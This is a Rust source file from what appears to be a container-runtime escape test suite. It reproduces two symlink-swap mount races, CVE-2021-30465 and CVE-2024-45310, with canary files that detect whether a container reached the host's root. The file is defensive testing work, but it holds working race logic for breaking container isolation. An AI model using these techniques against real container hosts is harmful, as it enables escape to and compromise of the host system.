//! A place to mount on that somebody changes meanwhile.

use std::fs;
use std::os::unix::fs::symlink;
use std::path::Path;

use crate::attack::{Attack, Verdict, Walls};
use crate::bundle::Bundle;
use crate::canary::Canaries;
use crate::field::Field;
use crate::swap::Swapping;
use crate::trouble::{Trouble, cannot};

pub const SWAPPED: Attack = Attack {
    name: "mount target swapped on a shared volume",
    cve: "CVE-2021-30465",
    tries: "Another container exchanges the directory that is mounted on for a link to the host's root.",
    attempt: swapped,
};

pub const MADE: Attack = Attack {
    name: "mount target made outside of the container",
    cve: "CVE-2024-45310",
    tries: "Another container exchanges a directory for a link while a mount point is made below it.",
    attempt: made,
};

/// With fewer exchanges there was no race.
const ENOUGH: u64 = 20;
/// Rounds in which no container may come to run, while nothing is in the way of one that does.
const UNLUCKY: usize = 30;

fn volume(field: &Field, target: &Path) -> Result<Swapping, Trouble> {
    let volume = field.make_dir("volume")?;
    fs::create_dir_all(volume.join("a"))
        .and_then(|()| symlink(target, volume.join("b")))
        .map_err(cannot("fill a volume"))?;
    Ok(Swapping::begin(&volume.join("a"), &volume.join("b")))
}

fn swapped(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    let canaries = Canaries::put(&field.make_dir("canaries")?, &[])?;
    let outside = field.make_dir("outside")?;
    fs::write(outside.join("mark"), "").map_err(cannot("mark a volume"))?;
    let swapping = volume(field, Path::new("/"))?;
    let mut reached = Vec::new();
    // A mount on what the link means to the host would lie over the host's root, in the container's
    // mount namespace; one that comes after it by a path of the container would show the host.
    let secret = canaries.secret();
    // Nothing runs of a container whose target is the link when it is mounted on.
    let again = (0..UNLUCKY).filter(|_| walls == Walls::Down);
    let rounds = walls.rounds().map(|_| false).chain(again.map(|_| true));
    for is_again in rounds {
        if is_again && !reached.is_empty() {
            break;
        }
        let mut bundle = Bundle::image(field, walls)?;
        bundle.bind_first(&field.directory().join("volume"), "/vol");
        bundle.bind(&outside, "/vol/a", &["rbind", "rw"]);
        bundle.bind(&outside, "/vol/a/deeper", &["rbind", "rw"]);
        if walls == Walls::Down {
            bundle.bind(Path::new("/"), "/host", &["rbind", "rw"]);
        }
        bundle.script(&format!(
            "for top in / /vol/a /vol/b /vol/a/deeper /host; do
                [ -r $top{secret} ] && echo \"! read $(cat $top{secret})\"
            done
            true",
            secret = secret.display()
        ));
        reached.extend(field.run(&bundle)?.reached()?);
    }
    if swapping.swaps() < ENOUGH {
        return Err(Trouble::CutShort(format!("{} swaps", swapping.swaps())));
    }
    drop(swapping);
    reached.extend(canaries.harmed()?);
    reached.sort();
    reached.dedup();
    Ok(Verdict::of(reached))
}

fn made(field: &Field, walls: Walls) -> Result<Verdict, Trouble> {
    let canaries = Canaries::put(&field.make_dir("canaries")?, &[])?;
    let outside = field.make_dir("outside")?;
    let file = outside.join("file");
    fs::write(&file, "").map_err(cannot("fill a volume"))?;
    let swapping = volume(field, canaries.directory())?;
    let mut reached = Vec::new();
    for round in walls.rounds() {
        let mut bundle = Bundle::image(field, walls)?;
        bundle.bind_first(&field.directory().join("volume"), "/vol");
        if walls == Walls::Down {
            let inside = canaries.directory().display().to_string();
            bundle.bind_first(canaries.directory(), &inside);
            // No race is to be won.
            bundle.bind(&outside, &format!("{inside}/directory"), &["rbind", "rw"]);
        }
        bundle.bind(
            &outside,
            &format!("/vol/a/directory{round}/below"),
            &["rbind", "rw"],
        );
        bundle.bind(&file, &format!("/vol/a/file{round}"), &["bind", "rw"]);
        bundle.script("true");
        reached.extend(field.run(&bundle)?.reached()?);
    }
    if swapping.swaps() < ENOUGH {
        return Err(Trouble::CutShort(format!("{} swaps", swapping.swaps())));
    }
    drop(swapping);
    reached.extend(canaries.harmed()?);
    Ok(Verdict::of(reached))
}
